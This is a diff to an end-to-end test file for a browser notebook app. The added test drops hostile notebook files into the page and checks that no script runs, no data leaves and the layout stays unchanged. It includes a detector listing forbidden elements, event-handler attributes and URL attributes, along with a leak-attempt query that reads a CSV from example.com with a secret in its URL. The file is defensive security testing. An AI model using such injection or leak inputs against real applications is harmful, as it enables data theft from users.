@@ -1,8 +1,44 @@
 import { describe, expect, test } from "vitest";
+import type { Page } from "playwright-core";
+import { hostileFiles } from "../cells/model/hostile/hostile-notebooks";
 import { dropFiles } from "./open-page";
 import { sharedPage } from "./shared-page";
 
 const newNotebook = sharedPage();
+
+/** Place and colours of what is not the stranger's. */
+function lookOf(page: Page): Promise<unknown> {
+  return page.evaluate(() => {
+    const { x, y, height } = document.querySelector(".topbar")!.getBoundingClientRect();
+    const { backgroundColor, color, fontFamily, display } = getComputedStyle(document.body);
+    const at = document.elementFromPoint(60, y + height / 2)?.closest("header")?.className;
+    return { x, y, height, backgroundColor, color, fontFamily, display, at, base: document.baseURI };
+  });
+}
+
+/** In the page: what has got in that must not. */
+function trespasses(): string[] {
+  const found: string[] = "broken" in window ? ["a script ran"] : [];
+  const own = document.querySelector("#root")!;
+  if (document.querySelectorAll("#root, #page").length !== 2) found.push("a second root");
+  const forbidden =
+    "script, iframe, frame, object, embed, applet, form, link, meta, base, style, math, template, marquee";
+  const inside = own.querySelectorAll(
+    `:is(${forbidden}, foreignObject, animate, x-y, video, audio, [name], [style*="url("])`,
+  );
+  for (const one of inside) found.push(one.outerHTML.slice(0, 200));
+  for (const one of own.querySelectorAll("*"))
+    for (const { name, value } of one.attributes) {
+      if (/^on/i.test(name)) found.push(`${one.tagName} ${name}`);
+      const isAddress = /^(?:src|href|xlink:href|action|data|poster|srcset|background|formaction)$/i.test(
+        name,
+      );
+      const isKept =
+        name === "href" && one.tagName === "A" ? /^(?:https?|mailto):|^#/ : /^(?:data:image\/|blob:|#)/;
+      if (isAddress && !isKept.test(value)) found.push(`${one.tagName} ${name}=${value.slice(0, 100)}`);
+    }
+  return found;
+}
 
 const attempts = [
   "select * from read_csv('https://example.com/leak.csv?secret=1')",
@@ -65,6 +101,32 @@ describe("nothing leaves", () => {
     expect(foreign).toEqual([]);
     expect(errors).toEqual([]);
   });
+
+  test("files of a stranger with script in every field run nothing, ask for nothing and leave the page as it looks", async () => {
+    const { page, foreign, errors } = await newNotebook();
+    // The bar at the top is as it is with any notebook.
+    await dropFiles(page, { name: "plain.sql", text: "select 1; select 2" });
+    await page.locator("[data-cell]").nth(1).waitFor();
+    const look = await lookOf(page);
+    for (const { name, text } of hostileFiles) {
+      const before = await page.locator("[data-cell]").first().getAttribute("data-cell");
+      await dropFiles(page, { name, text });
+      const isRefused = /^(bare|page)/.test(name);
+      if (isRefused) await page.locator(".notice", { hasText: name }).waitFor();
+      else
+        await expect
+          .poll(() => page.locator("[data-cell]").first().getAttribute("data-cell"))
+          .not.toBe(before);
+      await page.locator(".markdown").or(page.locator(".cell-foreign, .cell.is-sql")).first().waitFor();
+      await page.waitForTimeout(200);
+      expect(await page.evaluate(trespasses), name).toEqual([]);
+      expect(await lookOf(page), name).toEqual(look);
+    }
+    expect(foreign).toEqual([]);
+    // Of a page that is opened as a file Chromium tells that its own rules have kept handlers and bases from working.
+    const told = /^(?:Executing inline event handler|Setting the document's base URI) .*has been blocked/s;
+    expect(errors.filter((error) => !told.test(error))).toEqual([]);
+  }, 120_000);
 
   test("the page's rules hold: fetch, image and socket to elsewhere are refused", async () => {
     const { page } = await newNotebook();
